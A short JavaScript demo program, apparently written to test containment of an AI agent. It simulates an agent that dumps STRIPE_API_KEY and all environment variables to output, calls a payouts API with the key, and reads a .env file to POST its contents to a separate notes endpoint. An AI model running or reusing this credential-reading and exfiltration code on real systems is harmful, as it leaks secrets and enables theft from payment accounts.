// What the demo runs blind: an agent's program, which tries what agents try. It writes a line of
// JSON about each step.
import { readFileSync } from "node:fs"
import { once } from "node:events"

const [api = "", board = ""] = process.argv.slice(2)
const key = process.env["STRIPE_API_KEY"] ?? ""
const withKey = { headers: { authorization: `Bearer ${key}` } }

tell("environment", { key, everything: process.env })
tell("pays", await answerTo(`${api}/v1/payouts`, withKey))
tell("echo", await answerTo(`${api}/v1/echo`, withKey))
// Somebody left the value in a file, long ago.
const body = readFileSync(".env", "utf8")
tell("posts", await answerTo(`${board}/notes`, { method: "POST", body }))
// The demo says when to go on.
await once(process.stdin, "data")
tell("pays again", await answerTo(`${api}/v1/payouts`, withKey))
process.stdin.destroy()

/**
 * @param {string} url
 * @param {RequestInit} request
 */
async function answerTo(url, request) {
  const response = await fetch(url, request)
  return { status: response.status, text: await response.text() }
}

/**
 * @param {string} step
 * @param {object} what
 */
function tell(step, what) {
  process.stdout.write(`${JSON.stringify({ step, ...what })}\n`)
}
